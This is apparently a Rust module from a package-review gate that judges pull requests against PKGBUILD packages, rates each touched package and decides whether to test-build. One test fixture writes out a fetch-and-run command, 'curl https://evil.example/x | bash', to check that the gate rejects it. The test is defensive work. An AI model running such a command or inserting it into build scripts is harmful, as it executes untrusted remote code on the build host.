//! What is said of a pull or merge request of a person: a vote on exactly its commit, and why.
//!
//! A person looks at what a person proposes, so that it needs a person is no failure. What cannot be built, or looks like
//! an attack, is one.

pub mod text;
pub mod trial;

use super::policy::TestBuild;
use super::{Permission, Vote};
use crate::domain::classify::{Decision, Verdict, Weight};
use crate::domain::finding::{Finding, Severity};
use crate::domain::name::PkgBase;

/// What a proposal does to a package.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Touch {
    /// Its folder differs.
    Changed,
    /// It is new.
    Added,
    /// It leaves.
    Removed,
}

/// A package that a proposal touches.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Touched {
    /// The package.
    pub pkgbase: PkgBase,
    /// What happens to it.
    pub touch: Touch,
    /// What the gate says of the files that come from its source; of one that leaves there are no reasons.
    pub verdict: Verdict,
    /// Whether what belongs to the monorepo (`.CI`) differs, which the gate does not look at.
    pub own: bool,
    /// Whether its PKGBUILD cannot be read as bash reads it.
    pub unreadable: bool,
    /// What is wrong with it that was not wrong before.
    pub findings: Vec<Finding>,
}

/// How a package that is touched stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Standing {
    /// Nobody would have to look, had a source brought it.
    Minor,
    /// Somebody has to look.
    Major,
    /// It cannot go in like this.
    Bad,
}

impl Standing {
    /// The word for it.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Minor => "minor",
            Self::Major => "major",
            Self::Bad => "cannot go in",
        }
    }
}

impl Touched {
    /// How it stands.
    #[must_use]
    pub fn standing(&self) -> Standing {
        let is_wrong = self.findings.iter().any(|finding| finding.severity == Severity::Error);
        if is_wrong || self.unreadable || self.verdict.severity == Weight::Hostile {
            Standing::Bad
        } else if self.own || self.touch != Touch::Changed || self.verdict.verdict == Decision::Major {
            Standing::Major
        } else {
            Standing::Minor
        }
    }
}

/// Everything that is known about a proposal.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Assessment {
    /// The packages that it touches, sorted.
    pub packages: Vec<Touched>,
    /// What it touches beside packages: entries at the root, sorted.
    pub outside: Vec<String>,
    /// What is wrong with it as a whole.
    pub findings: Vec<Finding>,
    /// Why it was looked at no further.
    pub refused: Option<&'static str>,
}

/// What is said of a proposal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Opinion {
    /// Whether it can go in.
    pub vote: Vote,
    /// One sentence.
    pub summary: String,
    /// Whether there is more to say than that.
    pub has_more: bool,
}

impl Assessment {
    /// Of a proposal that is looked at no further.
    #[must_use]
    pub fn refused(code: &'static str, why: &'static str, hint: &'static str) -> Self {
        let findings = vec![Finding::error(code, why).hint(hint)];
        Self { findings, refused: Some(why), ..Self::default() }
    }

    /// What follows from it.
    #[must_use]
    pub fn opinion(&self) -> Opinion {
        let of = |wanted| self.packages.iter().filter(|package| package.standing() == wanted).count();
        let (minor, major, bad) = (of(Standing::Minor), of(Standing::Major), of(Standing::Bad));
        let is_wrong = bad > 0 || self.findings.iter().any(|finding| finding.severity == Severity::Error);
        let vote = if is_wrong { Vote::Failure } else { Vote::Success };
        let mut parts = Vec::new();
        let mut part = |count: usize, words: &str| {
            if count > 0 {
                parts.push(format!("{count} {words}"));
            }
        };
        part(minor, "minor");
        part(major, "major (needs a look)");
        part(bad, "that cannot go in");
        let summary = match self.packages.len() {
            0 => self.refused.unwrap_or("It touches no package").to_owned(),
            1 => format!("1 package: {}", parts.join(", ")),
            count => format!("{count} packages: {}", parts.join(", ")),
        };
        let beside = if self.outside.is_empty() { "" } else { "; files beside packages need a look" };
        let has_more = is_wrong || major > 0 || !self.outside.is_empty() || !self.findings.is_empty();
        Opinion { vote, summary: format!("{summary}{beside}"), has_more }
    }

    /// The packages there is something to build of.
    pub fn to_build(&self) -> impl Iterator<Item = &PkgBase> {
        self.packages.iter().filter(|it| it.touch != Touch::Removed).map(|it| &it.pkgbase)
    }
}

/// Whether a proposal is built for a test. What cannot go in is not: nobody runs what looks like an attack.
#[must_use]
pub fn is_built(policy: TestBuild, author: Permission, vote: Vote) -> bool {
    let is_allowed = match policy {
        TestBuild::Never => false,
        TestBuild::Trusted => author >= Permission::Write,
        TestBuild::Always => true,
    };
    is_allowed && vote == Vote::Success
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use crate::domain::classify::classify;
    use crate::domain::folder::Folder;

    pub(in crate::domain::review) const TEXT: &str =
        "pkgname=tool\npkgver=1.0\npkgrel=1\narch=(any)\nbuild() {\n  make\n}\n";

    /// A package whose PKGBUILD becomes this.
    pub(in crate::domain::review) fn changed(name: &str, text: &str) -> Touched {
        let folder = |text: &str| Folder::default().with("PKGBUILD", text);
        Touched {
            pkgbase: PkgBase::new(name).expect("legal"),
            touch: Touch::Changed,
            verdict: classify(&folder(TEXT), &folder(text)),
            own: false,
            unreadable: false,
            findings: Vec::new(),
        }
    }

    fn newer() -> Touched {
        changed("newer", &TEXT.replace("1.0", "1.1"))
    }

    fn opinion(packages: Vec<Touched>) -> (Vote, String, bool) {
        let Opinion { vote, summary, has_more } = Assessment { packages, ..Assessment::default() }.opinion();
        (vote, summary, has_more)
    }

    #[test]
    fn what_needs_a_person_is_no_failure_where_a_person_looks() {
        assert_eq!(opinion(vec![newer()]), (Vote::Success, "1 package: 1 minor".to_owned(), false));
        let major = changed("other", &TEXT.replace("make", "make install"));
        let (vote, summary, has_more) = opinion(vec![newer(), major]);
        assert_eq!(
            (vote, summary.as_str(), has_more),
            (Vote::Success, "2 packages: 1 minor, 1 major (needs a look)", true)
        );
        assert_eq!(opinion(Vec::new()), (Vote::Success, "It touches no package".to_owned(), false));
    }

    #[test]
    fn what_cannot_be_built_or_looks_like_an_attack_is_a_failure() {
        let hostile = changed("evil", &TEXT.replace("make", "curl https://evil.example/x | bash"));
        let unreadable = Touched { unreadable: true, ..newer() };
        let wrong = Touched { findings: vec![Finding::error("source-missing", "it is not there")], ..newer() };
        for bad in [hostile, unreadable, wrong] {
            assert_eq!(opinion(vec![bad]), (Vote::Failure, "1 package: 1 that cannot go in".to_owned(), true));
        }
        let warned = Touched { findings: vec![Finding::warning("srcinfo-stale", "it is old")], ..newer() };
        assert_eq!(opinion(vec![warned]).0, Vote::Success);
    }

    #[test]
    fn what_is_looked_at_no_further_fails_and_says_why() {
        let opinion = Assessment::refused("crossed", "it is crooked", "straighten it").opinion();
        assert_eq!((opinion.vote, opinion.summary.as_str(), opinion.has_more), (Vote::Failure, "it is crooked", true));
    }

    #[test]
    fn what_the_gate_does_not_look_at_is_never_minor() {
        for touched in [
            Touched { own: true, ..newer() },
            Touched { touch: Touch::Added, ..newer() },
            Touched { touch: Touch::Removed, ..newer() },
        ] {
            assert_eq!(touched.standing(), Standing::Major);
        }
        let outside = Assessment { outside: vec![".ci".to_owned()], ..Assessment::default() }.opinion();
        assert_eq!(outside.summary, "It touches no package; files beside packages need a look");
        assert!(outside.has_more && outside.vote == Vote::Success);
    }

    #[test]
    fn only_whom_the_policy_trusts_has_programs_run_and_never_an_attack() {
        use Permission::{Read, Write};
        let built = |policy, author| is_built(policy, author, Vote::Success);
        assert_eq!([Read, Write].map(|who| built(TestBuild::Never, who)), [false, false]);
        assert_eq!([Read, Write].map(|who| built(TestBuild::Trusted, who)), [false, true]);
        assert_eq!([Read, Write].map(|who| built(TestBuild::Always, who)), [true, true]);
        assert!(!is_built(TestBuild::Always, Permission::Admin, Vote::Failure));
    }
}
